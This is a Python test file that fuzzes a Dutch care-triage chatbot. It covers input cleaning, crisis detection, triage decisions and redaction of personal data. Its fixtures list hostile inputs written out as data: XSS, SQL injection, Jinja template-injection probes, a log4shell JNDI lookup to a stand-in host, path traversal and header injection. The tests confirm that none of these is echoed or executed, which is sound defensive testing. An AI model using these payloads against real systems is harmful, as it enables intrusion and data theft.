"""Hostile citizen text through the triage core, without the trained Rasa model.

The path is the one the actions, the CLI and the console lookup take: the input check
(:mod:`bot.textinput`), the real Dutch spaCy pipeline and fact extraction (what Rasa runs on the raw
message), the crisis rules, the triage decision, the Dutch answer card, the multi-turn answers and the
redaction of what is stored. Only the intent comes from the test instead of DIET.

Long generated texts repeat a unit that ends in a space: a run of tens of thousands of punctuation
marks or digits without white space takes quadratic time in spaCy's tokenizer and in some patterns of
``knowledge/crisis.yml`` (seconds per example), which would make this suite slow rather than test
anything new.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from bot.cli import problem_dict, triage_one
from bot.conversation import Question, interpret, next_question, start_state
from bot.errors import InvalidContactError, InvalidInputError, ZorgrouteError
from bot.handover import contact_method_answer, is_clear_yes, wants_no_name, withdraws
from bot.knowledge import KnowledgeBase
from bot.nlu.crisis_model import CrisisClassifier
from bot.nlu.extract import extract_entities
from bot.privacy.contact import normalise_name
from bot.privacy.redact import LABELS, bsn_is_valid, redact
from bot.render import CRISIS_TEXT, decision_messages, decision_payload, follow_up_buttons, render_staff
from bot.safety import crisis_decision, default_detector
from bot.textinput import MAX_CHARS, MESSAGES, check
from bot.triage import INTENT_CATEGORY, Decision, Triage
from tests.bot.nlu.test_crisis_model import _small_training_set
from tests.conftest import PROJECT_DIR

FUZZ = settings(max_examples=200, deadline=None)

CATEGORIES = frozenset(INTENT_CATEGORY.values()) | {"overig"}
ENTITY_NAMES = frozenset({"partij", "partij_zonder_resultaat", "persoon", "leeftijd", "weken", "signaal",
                          "signaal_niet", "loket"})
INTENTS = (*INTENT_CATEGORY, "greet", "affirm", "deny", "dont_know", "already_tried", "nlu_fallback",
           "invalid_input", None)
QUESTION_FACTS = ("age", "weeks", "complaint_target", "failed", "no_result", "wlz_indication")

# Characters that carry no meaning but can hide or reorder text, and other control characters.
HOSTILE_CHARS = ("\x00", "\x07", "\x1b", "\x7f", "\r", "\x85", "\u00ad", "\u200b", "\u200d", "\u200e",
                 "\u200f", "\u202a", "\u202e", "\u2066", "\u2069", "\u2028", "\ufeff", "\ufffd")
DUTCH_WORDS = ("mijn", "moeder", "van", "84", "heeft", "geen", "wlz-indicatie", "het", "zorgkantoor",
               "vindt", "niets", "al", "twaalf", "weken", "maanden", "gemeente", "wijkteam", "afgewezen",
               "klacht", "zoon", "ik", "ben", "jarige", "ja", "nee", "weet", "niet", "BSN", "123456782",
               "06-12345678", "jan@voorbeeld.nl", "meneer", "Jansen", "geboren", "12-03-1956",
               "Kerkstraat", "12a", "ik heet", "<b>", "{{", "'", ".", "!", "?", "\n", "²", "①", "٣", "e", "clie",
               "\u0301", "\u0308")  # combining marks: NFC must still hold once invisible characters are gone

any_text = st.text(max_size=400)  # all of unicode but surrogates: NUL, controls, RTL and zero-width marks
word_salad = st.builds(
    lambda parts, separator: separator.join(parts),
    st.lists(st.one_of(st.sampled_from(DUTCH_WORDS), st.sampled_from(HOSTILE_CHARS), st.text(max_size=3)),
             max_size=60),
    st.sampled_from((" ", "", "\u200b", "\n", " \u202e", "\x00")),
)
long_text = st.builds(
    lambda unit, size: ((unit + " ") * (size // (len(unit) + 1) + 1))[:size],
    st.text(min_size=1, max_size=40), st.integers(MAX_CHARS - 10, 20_000),
)
texts = st.one_of(any_text, word_salad, long_text, st.sampled_from(DUTCH_WORDS + HOSTILE_CHARS))


class SpacyParser:
    """Stands in for the trained model: the real spaCy pipeline and fact extraction, a given intent."""

    def __init__(self, nlp: Any, kb: KnowledgeBase, intent: str | None, confidence: float) -> None:
        self.nlp = nlp
        self.kb = kb
        self.intent = intent
        self.confidence = confidence

    def parse(self, text: str) -> dict[str, Any]:
        """A Rasa-shaped parse; SpacyNLP (``case_sensitive: false``) sees the lower-cased text."""
        ranking = [{"name": self.intent, "confidence": self.confidence}] if self.intent else []
        return {"text": text, "intent": ranking[0] if ranking else {}, "intent_ranking": ranking,
                "entities": extract_entities(self.nlp(text.lower()), self.kb)}


def named_or_result(call: Callable[..., Any], *args: Any) -> Any:
    """The result of ``call``, or the project's named error it raised; any other error fails the test."""
    try:
        return call(*args)
    except ZorgrouteError as error:
        return error


def assert_valid_decision(kb: KnowledgeBase, decision: Decision) -> None:
    assert isinstance(decision, Decision)
    assert decision.category in CATEGORIES
    assert decision.rule in {rule.id for rule in kb.rules}
    assert all(step.route.id in kb.routes for step in decision.steps)
    contract = decision.to_dict()
    assert json.loads(json.dumps(contract, ensure_ascii=False)) == contract
    messages = decision_messages(decision)
    assert messages and all(isinstance(m, str) and m.strip() for m in messages)
    if decision.category == "crisis":
        assert messages == [CRISIS_TEXT]
    assert isinstance(render_staff(decision), str)
    assert json.loads(json.dumps(decision_payload(decision)))["type"] == "zorgroute_decision"
    assert all(set(button) == {"title", "payload"} for button in follow_up_buttons(decision))


def run_triage_path(nlp: Any, kb: KnowledgeBase, text: str, intent: str | None,
                    confidence: float) -> tuple[str | InvalidInputError, Decision, Decision | InvalidInputError]:
    """What the chat and the CLI do with one message: (checked text, chat decision, CLI/console result)."""
    parser = SpacyParser(nlp, kb, intent, confidence)
    triage = Triage(kb)

    checked = named_or_result(check, text)
    if isinstance(checked, ZorgrouteError):
        assert isinstance(checked, InvalidInputError)
        assert checked.dutch_message == MESSAGES[checked.problem]
    else:
        assert checked == " ".join(checked.split()) and 0 < len(checked) <= MAX_CHARS
        assert unicodedata.is_normalized("NFC", checked)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]",
                             checked)
        assert check(checked) == checked

    # The chat: Rasa parses the raw text (the guard runs after the extractor), the action decides.
    parse = parser.parse(text)
    entities = parse["entities"]
    for entity in entities:
        assert entity["entity"] in ENTITY_NAMES
        assert 0 <= entity["start"] <= entity["end"] <= len(text.lower())
    chat = named_or_result(triage.decide_parse, parse)
    assert_valid_decision(kb, chat)
    if default_detector().match(text) is not None:
        assert chat.category == "crisis"  # crisis overrides everything, whatever the intent

    # The CLI and the console lookup: the check first, then the parse of the cleaned text.
    lookup = named_or_result(triage_one, triage, parser, text)
    if isinstance(lookup, InvalidInputError):
        assert isinstance(checked, InvalidInputError) and lookup.problem == checked.problem
        assert json.loads(json.dumps(problem_dict(lookup)))["error"]["message"] == lookup.dutch_message
    else:
        assert_valid_decision(kb, lookup)
        assert isinstance(checked, str) or lookup.category == "crisis"
    return checked, chat, lookup


@FUZZ
@given(text=texts, intent=st.sampled_from(INTENTS), confidence=st.floats(0.0, 1.0))
@example(text="cafe\u200b\u0301 voor mijn moeder", intent="wmo", confidence=0.5)  # NFC after the clean-up
def test_any_text_gets_a_decision_or_a_named_input_problem(nlp: Any, kb: KnowledgeBase, text: str,
                                                            intent: str | None, confidence: float) -> None:
    run_triage_path(nlp, kb, text, intent, confidence)


@FUZZ
@given(text=texts, intent=st.sampled_from(INTENTS), fact=st.sampled_from(QUESTION_FACTS))
@example(text="²", intent=None, fact="age")
def test_any_reply_to_a_triage_question_is_understood_or_asked_again(nlp: Any, kb: KnowledgeBase, text: str,
                                                                     intent: str | None, fact: str) -> None:
    entities = extract_entities(nlp(text.lower()), kb)
    state = start_state(text, intent, 0.8, entities)
    question = next_question(kb, state)
    assert question is None or question.fact not in state.known
    answer = interpret(Question(fact, fact, "gemeente" if fact == "failed" else None), intent, text, entities)
    assert isinstance(answer.understood, bool)
    assert answer.understood or not answer.updates
    if fact == "age" and "age" in answer.updates:
        assert isinstance(answer.updates["age"], int) and 0 < answer.updates["age"] < 120


@pytest.mark.parametrize("answer", ["²", "①", "٣٤", "1" * 5000])
def test_odd_digits_in_an_answer_are_no_crash(answer: str) -> None:
    # isdigit() holds for "²" and "①" but int() rejects them; 5000 digits exceed int()'s limit.
    age = interpret(Question("age", "age"), None, answer, [])
    weeks = interpret(Question("weeks", "weeks"), None, answer, [])
    assert age.updates == ({"age": 34} if answer == "٣٤" else {})
    assert weeks.updates == ({"weeks": 34} if answer == "٣٤" else {})


@pytest.fixture(scope="module")
def crisis_classifier() -> CrisisClassifier:
    return CrisisClassifier.train(_small_training_set())


@FUZZ
@given(text=texts, intent_says_crisis=st.booleans())
def test_crisis_verdict_for_any_text(crisis_classifier: CrisisClassifier, text: str, intent_says_crisis: bool) -> None:
    score = crisis_classifier.score(text)
    assert 0.0 <= score <= 1.0
    verdict = crisis_decision(text, score, 0.7, intent_says_crisis=intent_says_crisis, corroboration=0.35)
    assert verdict.reason in (None, "rules", "classifier", "intent_model")
    assert verdict.is_crisis == (default_detector().match(text) is not None or score >= 0.7
                                 or (intent_says_crisis and score >= 0.35))


@FUZZ
@given(text=texts, intent=st.sampled_from(("affirm", "deny", None)))
def test_any_reply_in_the_handover_form(text: str, intent: str | None) -> None:
    assert isinstance(is_clear_yes(intent, text), bool)
    assert isinstance(withdraws(text), bool)
    assert isinstance(wants_no_name(intent, text), bool)
    answer = contact_method_answer(text)
    assert answer.method in (None, "email", "telefoon")
    name = named_or_result(normalise_name, text)
    if isinstance(name, ZorgrouteError):
        assert isinstance(name, InvalidContactError) and name.dutch_message
    else:
        assert name is None or (name.isprintable() and 0 < len(name) <= 80 and name == name.strip())


# --- Redaction: personal data embedded in random text never survives -------------------------------------


@st.composite
def bsns(draw: st.DrawFn) -> str:
    """A valid BSN (elfproef) in one of the notations people write."""
    first = draw(st.lists(st.integers(0, 9), min_size=8, max_size=8))
    check_digit = sum(d * w for d, w in zip(first, range(9, 1, -1), strict=True)) % 11
    assume(check_digit < 10 and any(first))
    digits = "".join(map(str, first)) + str(check_digit)
    assert bsn_is_valid(digits)
    return draw(st.sampled_from((
        digits, f"{digits[:4]}.{digits[4:6]}.{digits[6:]}", f"{digits[:3]} {digits[3:6]} {digits[6:]}",
        f"{digits[:3]}.{digits[3:6]}.{digits[6:]}", f"{digits[:2]}.{digits[2:5]}.{digits[5:7]}.{digits[7:]}",
    )))


@st.composite
def phone_numbers(draw: st.DrawFn) -> str:
    """A Dutch phone number (mobile or landline) as people type it."""
    digits = "0" + draw(st.sampled_from("123456789")) + draw(st.text("0123456789", min_size=8, max_size=8))
    return draw(st.sampled_from((
        digits, f"{digits[:2]}-{digits[2:]}", f"{digits[:2]} {digits[2:]}", f"{digits[:3]} {digits[3:6]} {digits[6:]}",
        f"+31 {digits[1:]}", f"+31 {digits[1]} {digits[2:6]} {digits[6:]}", f"0031 {digits[1:3]} {digits[3:]}",
        f"({digits[:3]}) {digits[3:]}",
    )))


_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,12}[A-Za-z0-9])?"
emails = st.builds(
    lambda local, labels, tld: f"{local}@{'.'.join(labels)}.{tld}",
    st.from_regex(r"[A-Za-z0-9](?:[A-Za-z0-9._+-]{0,15}[A-Za-z0-9])?", fullmatch=True).filter(lambda s: ".." not in s),
    st.lists(st.from_regex(_LABEL, fullmatch=True), min_size=1, max_size=3),
    st.from_regex(r"[A-Za-z]{2,6}", fullmatch=True),  # "jan@voorbeeld.NL" was missed before
)


@FUZZ
@given(before=st.text(max_size=80), personal=st.one_of(bsns(), phone_numbers(), emails),
       after=st.text(max_size=80))
def test_personal_data_in_random_text_is_always_redacted(before: str, personal: str, after: str) -> None:
    redacted = redact(f"{before} {personal} {after}")
    assert personal not in redacted
    assert any(label in redacted for label in LABELS.values())


@FUZZ
@given(text=texts)
def test_redaction_of_any_text_only_replaces_spans_with_labels(text: str) -> None:
    redacted = redact(text)
    # What is left between the labels is the original text, in order.
    pieces = re.split("|".join(re.escape(label) for label in LABELS.values()), redacted)
    position = 0
    for piece in pieces:
        found = text.find(piece, position)
        assert found >= 0, piece
        position = found + len(piece)


# --- Nasty inputs, one by one ------------------------------------------------------------------------------

NASTY = {
    "very_long": "Mijn moeder van 84 heeft dementie en het zorgkantoor vindt geen plek. " * 1430,
    "very_long_one_word": "a" * 100_000,
    "binary_latin1": bytes(range(256)).decode("latin-1") * 4,
    "binary_with_dutch": "mijn vader \x00\x01\xff\xfe heeft\x1b[31m thuiszorg nodig \x7f\x9b",
    "mixed_scripts": "مرحبا، mijn moeder 我的母亲 heeft hulp thuis nodig, заранее спасибо",
    "arabic_only": "أمي تحتاج إلى رعاية في المنزل",
    "rtl_override": "mijn vader \u202eednoog netsil\u202c wacht al 20 weken op een plek",
    "rtl_marks": "\u200fik zoek\u200f hulp\u200e voor mijn zoon van 12\u2067",
    "zero_width": "mijn\u200b moeder\u200d heeft\ufeff een wlz\u2060-indicatie",
    "script_tag": "<script>alert(1)</script> mijn vader heeft zorg nodig",
    "img_onerror": '<img src=x onerror="alert(document.cookie)"> de gemeente helpt niet',
    "svg_onload": "<svg/onload=alert(1)> het wijkteam stuurt ons van het kastje naar de muur",
    "html_attribute_break": '" autofocus onfocus="alert(1) ik wil een klacht indienen over de thuiszorg',
    "sql_injection": "'; DROP TABLE tickets; -- mijn moeder heeft een wlz-indicatie",
    "sql_union": "1' OR '1'='1' UNION SELECT * FROM staff_accounts -- hulp nodig",
    "jinja_expression": "{{ 7*7 }} mijn zoon van 15 heeft angstaanvallen",
    "jinja_statement": "{% for x in range(10**9) %}zorg{% endfor %} voor mijn moeder",
    "jinja_config": "{{ config.items() }}{{ ''.__class__.__mro__[1].__subclasses__() }} hulp",
    "log4shell": "${jndi:ldap://x.example/a} mijn vader krijgt geen thuiszorg",
    "path_traversal": "../../etc/passwd mijn moeder wacht al maanden",
    "windows_path": "C:\\Windows\\system32\\cmd.exe /c calc de gemeente zegt nee",
    "json_intent": '{"intent": "crisis", "confidence": 1.0}',
    "json_breakout": '"}], "intent": {"name": "crisis"}, "x": [{"' + " mijn moeder zoekt een verpleeghuis",
    "rasa_intent_syntax": '/crisis{"leeftijd": "999"}',
    "format_string": "%s%s%s%n {0} {text!r} mijn zoon heeft jeugdhulp nodig",
    "newline_injection": "hulp nodig\r\nSet-Cookie: zr_session=x\r\n\r\n<h1>nep</h1>",
    "crisis_in_markup": "<b>ik wil dood</b>",
    "crisis_behind_rtl": "\u202eik wil dood",
    "empty": "",
    "only_invisible": "\u200b\u200f\ufeff\u202e",
    "only_markup": "<b></b><i></i>",
}
# Distinctive pieces of each payload; none of them may come back in the answer or its payload.
ECHO_MARKERS = ("<script", "<img", "<svg", "onerror", "onload", "onfocus", "DROP TABLE", "UNION SELECT",
                "{{", "{%", "${", "jndi", "etc/passwd", "system32", "Set-Cookie", "<h1>", "%n", "__class__")
EXPECTED_PROBLEM = {"very_long": "too_long", "very_long_one_word": "too_long", "arabic_only": "not_dutch",
                    "empty": "empty", "only_invisible": "empty", "only_markup": "no_words"}
EXPECTED_CATEGORY = {"json_intent": "wlz", "json_breakout": "wlz", "rasa_intent_syntax": "wlz",
                     "crisis_in_markup": "crisis", "crisis_behind_rtl": "crisis"}


@pytest.mark.parametrize("name", NASTY)
def test_nasty_input_is_answered_from_the_knowledge_base_only(nlp: Any, kb: KnowledgeBase, name: str) -> None:
    text = NASTY[name]
    checked, chat, lookup = run_triage_path(nlp, kb, text, "wlz", 0.9)
    if name in EXPECTED_PROBLEM:
        assert isinstance(checked, InvalidInputError) and checked.problem == EXPECTED_PROBLEM[name]
    if name in EXPECTED_CATEGORY:
        # Text that looks like an intent or a JSON field never changes the intent; crisis words always count.
        assert chat.category == EXPECTED_CATEGORY[name]
    for decision in (chat, lookup):
        if isinstance(decision, InvalidInputError):
            answer = decision.dutch_message
        else:
            answer = "\n".join(decision_messages(decision)) + json.dumps(decision_payload(decision),
                                                                         ensure_ascii=False)
        for marker in ECHO_MARKERS:
            assert marker.lower() not in answer.lower(), (name, marker)
        assert "<" not in answer and ">" not in answer  # the answer card carries no markup at all


def test_the_chat_widget_shows_answers_as_text() -> None:
    # The Dutch answers reach the browser through chat.js; it must never parse them as HTML.
    source = (PROJECT_DIR / "bot" / "web" / "static" / "chat.js").read_text(encoding="utf-8")
    widget = re.sub(r"/\*.*?\*/|(?<![:\\])//[^\n]*", "", source, flags=re.S)  # the code, without comments
    assert "textContent" in widget
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in widget, sink


@pytest.mark.parametrize("name", ["script_tag", "img_onerror", "html_attribute_break", "jinja_expression",
                                  "newline_injection"])
def test_console_lookup_shows_pasted_markup_as_text(tmp_path: Path, nlp: Any, kb: KnowledgeBase, name: str) -> None:
    from bot.config import Settings
    from bot.web.app import WebContext

    settings = Settings.from_env(env_file=None, environ={"ZORGROUTE_DATA_DIR": str(tmp_path)})
    text = NASTY[name]
    decision = triage_one(Triage(kb), SpacyParser(nlp, kb, "wlz", 0.9), text)
    assert isinstance(decision, Decision)
    reply = WebContext(settings).render("lookup.html", text=text, decision=decision, problem=None,
                                        sources=kb.sources, user="anna", csrf="token")
    page = bytes(reply.body or b"").decode()
    shown = page.split("<textarea", 1)[1].split(">", 1)[1].split("</textarea>", 1)[0]
    assert shown == str(escape(text))  # the pasted text, escaped, and nothing else (no template evaluation)
    assert html.unescape(shown) == text
    if str(escape(text)) != text:
        assert text not in page


@pytest.mark.parametrize("invisible", ["\u200b", "\u200d", "\u2060", "\ufeff", "\x00"])
def test_invisible_characters_do_not_hide_a_crisis_from_the_rules(kb: KnowledgeBase, invisible: str) -> None:
    assert Triage(kb).decide(f"ik wil{invisible} dood", "wlz", 0.9).category == "crisis"


@pytest.mark.parametrize("invisible", ["\u200b", "\u200d", "\u2060", "\ufeff", "\x00"])
def test_the_input_check_ignores_invisible_characters(kb: KnowledgeBase, invisible: str) -> None:
    assert check(f"ik wil{invisible} dood") == "ik wil dood"
    assert Triage(kb).decide(check(f"ik wil{invisible} dood"), "wlz", 0.9).category == "crisis"
